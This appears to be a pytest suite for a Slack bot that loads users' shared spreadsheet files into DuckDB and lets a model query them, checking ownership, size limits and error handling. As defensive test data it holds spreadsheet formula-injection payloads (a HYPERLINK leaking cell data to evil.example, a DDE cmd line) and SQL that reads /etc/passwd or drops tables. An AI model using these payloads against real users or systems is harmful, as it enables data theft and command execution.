"""End to end: a file shared with a question in Slack becomes the asker's table in that thread.

Signed events with ``files`` into the real bolt app; the bot downloads ``url_private`` from
the fake Slack with its token and the scripted model queries the table with ``query_files``.
"""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook

from agent_core import ScriptedResponse
from agent_core.database.file_tables import FileLimits, FileTables
from bots.files import SharedFiles
from tests.bots.slack.harness import TOKEN, SlackHarness, running_bot
from tests.bots.slack.test_bot_entry_points import mention

SALES = b"region,amount\nEU,10\nEU,5\nUS,7\n"


def store(tmp_path: Path, **limits: Any) -> SharedFiles:
    return SharedFiles(FileTables(tmp_path / "files", limits=FileLimits(**limits)))


def with_files(
    h: SlackHarness,
    *files: dict[str, Any],
    text: str = "<@UBOT> trend?",
    ts: str = "100.000100",
    user: str = "U1",
) -> dict[str, Any]:
    return mention(text, ts=ts, user=user, files=list(files))


def tool_results(h: SlackHarness) -> list[str]:
    llm = h.agent.llm_service
    return [
        m.content or ""
        for r in llm.requests
        for m in r.messages  # type: ignore[attr-defined]
        if m.role == "tool"
    ]


def table_blocks(h: SlackHarness) -> list[dict[str, Any]]:
    blocks = [b for c in h.fake.calls_to("chat.postMessage") for b in c.args.get("blocks") or []]
    return [b for b in blocks if b["type"] == "table"]


def cells(table: dict[str, Any]) -> list[list[str]]:
    return [[_text(cell) for cell in row] for row in table["rows"]]


def _text(cell: dict[str, Any]) -> str:
    if cell["type"] == "raw_text":
        return str(cell["text"])
    return "".join(e.get("text", "") for s in cell["elements"] for e in s["elements"])


async def test_a_shared_csv_is_queried_with_sql_in_its_thread(tmp_path: Path) -> None:
    sql = "SELECT region, sum(amount) AS total FROM sales GROUP BY region ORDER BY region"
    script = [ScriptedResponse.tool("query_files", {"sql": sql}), "EU leads with 15."]
    async with running_bot(tmp_path, script, files=store(tmp_path)) as h:
        shared = h.fake.share_file("sales.csv", SALES, user="U1")
        await h.event(with_files(h, shared))
        await h.idle()
        [download] = h.fake.calls_to("file")
        assert download.token == TOKEN  # url_private, with the bot token
        question = h.llm_questions()[0]
        assert "trend?" in question and "sales (from sales.csv, 3 rows)" in question
        assert "region VARCHAR, amount BIGINT" in question
        assert "EU,15" in tool_results(h)[0].replace(" ", "")
        [table] = table_blocks(h)
        assert cells(table)[1:] == [["EU", "15"], ["US", "7"]]
        assert "EU leads with 15." in [m.text for m in h.fake.thread("C1", "100.000100")]


async def test_a_follow_up_in_the_thread_queries_the_same_table(tmp_path: Path) -> None:
    script = [
        "Got it.",
        ScriptedResponse.tool("query_files", {"sql": "SELECT count(*) AS n FROM sales"}),
        "Three rows.",
    ]
    async with running_bot(tmp_path, script, files=store(tmp_path)) as h:
        await h.event(with_files(h, h.fake.share_file("sales.csv", SALES)))
        await h.idle()
        await h.event(
            {
                "type": "message",
                "user": "U1",
                "text": "how many rows?",
                "ts": "100.000300",
                "thread_ts": "100.000100",
                "channel": "C1",
                "channel_type": "channel",
            }
        )
        await h.idle()
        assert tool_results(h)[-1].startswith("Query returned 1 row.")
        assert "\n3" in tool_results(h)[-1]


async def test_someone_elses_file_in_the_channel_is_never_downloaded(tmp_path: Path) -> None:
    """Ana mentions the bot on a message carrying Bo's file: the file is refused unread."""
    async with running_bot(tmp_path, ["I cannot see that file."], files=store(tmp_path)) as h:
        await h.event(with_files(h, h.fake.share_file("bo.csv", SALES, user="U2"), user="U1"))
        await h.idle()
        assert h.fake.calls_to("file") == []
        texts = " ".join(m.text for m in h.fake.visible("C1"))
        assert "bo.csv was shared by someone else" in texts
        assert "could not be read: bo.csv was shared by someone else" in h.llm_questions()[0]


async def test_another_person_in_the_thread_cannot_query_the_askers_file(tmp_path: Path) -> None:
    script = [
        "Loaded.",
        ScriptedResponse.tool("query_files", {"sql": "SELECT * FROM sales"}),
        "Nothing for you.",
    ]
    async with running_bot(tmp_path, script, files=store(tmp_path)) as h:
        await h.event(with_files(h, h.fake.share_file("sales.csv", SALES)))
        await h.idle()
        await h.event(
            mention("<@UBOT> show me sales", ts="100.000500", user="U2", thread_ts="100.000100")
        )
        await h.idle()
        assert tool_results(h)[-1].startswith("No files were shared with you")
        assert table_blocks(h) == []


async def test_a_200_mb_file_is_refused_before_any_download(tmp_path: Path) -> None:
    async with running_bot(tmp_path, ["Too big."], files=store(tmp_path)) as h:
        shared = h.fake.share_file("huge.csv", SALES, size=200 * 1024 * 1024)
        await h.event(with_files(h, shared))
        await h.idle()
        assert h.fake.calls_to("file") == []
        texts = " ".join(m.text for m in h.fake.visible("C1"))
        assert "huge.csv is larger than 25 MB, the most I read" in texts


async def test_a_file_larger_than_it_claims_stops_at_the_limit(tmp_path: Path) -> None:
    big = b"n\n" + b"1\n" * 5000
    async with running_bot(tmp_path, ["Too big."], files=store(tmp_path, max_bytes=1000)) as h:
        await h.event(with_files(h, h.fake.share_file("liar.csv", big, size=10)))
        await h.idle()
        assert len(h.fake.calls_to("file")) == 1
        assert "liar.csv is larger than" in " ".join(m.text for m in h.fake.visible("C1"))


async def test_a_corrupt_xlsx_is_told_plainly(tmp_path: Path) -> None:
    corrupt = b"PK\x03\x04" + b"\x00garbage" * 100
    async with running_bot(tmp_path, ["Sorry."], files=store(tmp_path)) as h:
        await h.event(with_files(h, h.fake.share_file("book.xlsx", corrupt)))
        await h.idle()
        texts = " ".join(m.text for m in h.fake.visible("C1"))
        assert "book.xlsx is not a valid XLSX workbook" in texts


async def test_an_xlsx_gives_its_cached_values_and_never_its_formulas(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["item", "price", "note"])
    sheet.append(["tea", 3, '=HYPERLINK("http://evil.example","click")'])
    sheet.append(["cake", 4, "=1+1"])
    data = io.BytesIO()
    book.save(data)
    sql = "SELECT item, price, note FROM prices ORDER BY item"
    script = [ScriptedResponse.tool("query_files", {"sql": sql}), "Prices."]
    async with running_bot(tmp_path, script, files=store(tmp_path)) as h:
        await h.event(with_files(h, h.fake.share_file("prices.xlsx", data.getvalue())))
        await h.idle()
        assert "prices (from prices.xlsx, 2 rows)" in h.llm_questions()[0]
        [table] = table_blocks(h)
        # saved by openpyxl, which caches no values: the formulas were never evaluated
        assert cells(table)[1:] == [["cake", "4", "—"], ["tea", "3", "—"]]  # NULL


@pytest.mark.parametrize(
    "sql",
    [
        "DROP TABLE sales",
        "SELECT * FROM read_csv('/etc/passwd')",
        "COPY sales TO '/tmp/out.csv'",
        "ATTACH '/tmp/x.duckdb' AS x",
    ],
)
async def test_the_llm_cannot_write_or_reach_files(tmp_path: Path, sql: str) -> None:
    script = [ScriptedResponse.tool("query_files", {"sql": sql}), "Refused."]
    async with running_bot(tmp_path, script, files=store(tmp_path)) as h:
        await h.event(with_files(h, h.fake.share_file("sales.csv", SALES)))
        await h.idle()
        [result] = tool_results(h)
        assert result.startswith("The query failed (read_only)")


async def test_without_the_store_the_asker_hears_files_are_not_read(tmp_path: Path) -> None:
    async with running_bot(tmp_path, ["OK."]) as h:
        await h.event(with_files(h, h.fake.share_file("sales.csv", SALES)))
        await h.idle()
        assert h.fake.calls_to("file") == []
        assert "cannot read shared files" in " ".join(m.text for m in h.fake.visible("C1"))


async def test_a_csv_with_formula_injection_stays_data_and_is_quoted_in_the_export(
    tmp_path: Path,
) -> None:
    """A shared CSV whose cells are spreadsheet formulas: DuckDB keeps them as text, and the
    CSV of the cut table the bot attaches quotes them, so Excel never runs them."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = "".join(f'{i},"{evil.replace(chr(34), chr(34) * 2)}"\n' for i in range(150))
    data = ("id,note\n" + rows + "150,+cmd|' /C calc'!A0\n").encode()
    script = [ScriptedResponse.tool("query_files", {"sql": "SELECT * FROM evil"}), "Done."]
    async with running_bot(tmp_path, script, files=store(tmp_path)) as h:
        await h.event(with_files(h, h.fake.share_file("evil.csv", data)))
        await h.idle()
        assert "evil (from evil.csv, 151 rows): id BIGINT, note VARCHAR" in h.llm_questions()[0]
        assert evil in tool_results(h)[0].replace('""', '"')
        [export] = [
            v
            for k, v in h.fake.uploads.items()
            if h.fake.files[k].name.endswith(".csv") and not h.fake.files[k].private
        ]
        lines = export.decode().splitlines()
        assert lines[1] == '0,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'
        assert not any(
            cell.startswith(("=", "+", "@")) for line in lines for cell in line.split(",")
        )


async def test_a_file_alone_in_a_dm_is_a_question_about_it(tmp_path: Path) -> None:
    """A DM that is only a file (``file_share``, no text) is answered about the file."""
    async with running_bot(tmp_path, ["It has 3 rows."], files=store(tmp_path)) as h:
        shared = h.fake.share_file("sales.csv", SALES, user="U1")
        await h.event(
            {
                "type": "message",
                "subtype": "file_share",
                "user": "U1",
                "text": "",
                "ts": "200.000100",
                "channel": "D1",
                "channel_type": "im",
                "files": [shared],
            }
        )
        await h.idle()
        assert h.llm_questions()[0].lstrip().startswith("[Files shared with this message")
        assert "It has 3 rows." in [m.text for m in h.fake.visible("D1")]


async def test_a_file_name_with_markup_never_pings_the_channel(tmp_path: Path) -> None:
    """A file named ``<!channel>.xlsx`` that cannot be read is named in the notice without
    its markup, so telling the asker never notifies the whole channel."""
    async with running_bot(tmp_path, ["Sorry."], files=store(tmp_path)) as h:
        await h.event(with_files(h, h.fake.share_file("<!channel>.xlsx", b"not a workbook")))
        await h.idle()
        posted = [c.args for c in h.fake.calls_to("chat.postMessage")]
        assert not any("<!channel>" in json.dumps(args) for args in posted)
        assert any(
            "!channel.xlsx is not a valid XLSX workbook" in (args.get("text") or "")
            for args in posted
        )


async def test_a_file_that_cannot_be_read_never_shows_a_server_path(tmp_path: Path) -> None:
    """Regression (issue 22): a malformed JSON or Parquet file was told "could not be read"
    with DuckDB's message, naming the file's path on the server (under the data
    directory), to the asker in Slack and to the model."""
    async with running_bot(tmp_path, ["Sorry."], files=store(tmp_path)) as h:
        broken = [
            h.fake.share_file("orders.json", b"{not json"),
            h.fake.share_file("sales.parquet", b"PAR1xxxxPAR1"),
        ]
        await h.event(with_files(h, *broken))
        await h.idle()
        posted = json.dumps([c.args for c in h.fake.calls_to("chat.postMessage")])
        told = posted + h.llm_questions()[0]
        assert "orders.json could not be read as JSON" in told
        assert "sales.parquet could not be read as PARQUET" in told
        assert str(tmp_path) not in told and "/tmp" not in told


def salaries_database(tmp_path: Path) -> Path:
    import duckdb

    path = tmp_path / "team.duckdb"
    with duckdb.connect(str(path)) as made:
        made.execute("CREATE TABLE salaries AS SELECT 'Ana' AS name, 'pay-987654' AS salary")
    return path


def analysts_agent(database: Path, script: list[Any]) -> Any:
    """``run_sql`` over the team's DuckDB database for analysts only; ``query_files`` (added
    by the bot) for everyone."""
    from agent_core import ScriptedLlmService, ToolRegistry
    from agent_core.database import SqlAlchemyRunner
    from agent_core.tools.sql import RunSqlTool
    from tests.agent_kind import agent_class

    def build(resolver: Any, state: Any) -> Any:
        tools = ToolRegistry()
        runner = SqlAlchemyRunner(f"duckdb:///{database}")
        tools.register_local_tool(RunSqlTool(runner), access_groups=["analyst"])
        return agent_class()(
            llm_service=ScriptedLlmService(script),
            tool_registry=tools,
            user_resolver=resolver,
            agent_memory=state.memory,
        )

    return build


@pytest.mark.parametrize(("user", "joined"), [("U1", False), ("UADMIN", False)])
async def test_query_files_joins_the_database_only_for_people_who_may_run_sql(
    tmp_path: Path, user: str, joined: bool
) -> None:
    """Regression for issue 22 item 3 (the twin of Teams'): ``query_files`` joined the
    team's database for anyone; here nobody is in ``analyst``, so nobody reads
    ``db.salaries`` through their files, an admin included."""
    sql = "SELECT s.name, s.salary FROM db.salaries s"
    script = [ScriptedResponse.tool("query_files", {"sql": sql}), "Done."]
    database = salaries_database(tmp_path)
    async with running_bot(
        tmp_path, script, agent_factory=analysts_agent(database, script), files=store(tmp_path)
    ) as h:
        shared = h.fake.share_file("sales.csv", SALES, user=user)
        await h.event(with_files(h, shared, user=user))
        await h.idle()
        [result] = tool_results(h)
        assert ("pay-987654" in result) is joined
        assert "pay-987654" not in json.dumps([c.args for c in h.fake.calls])
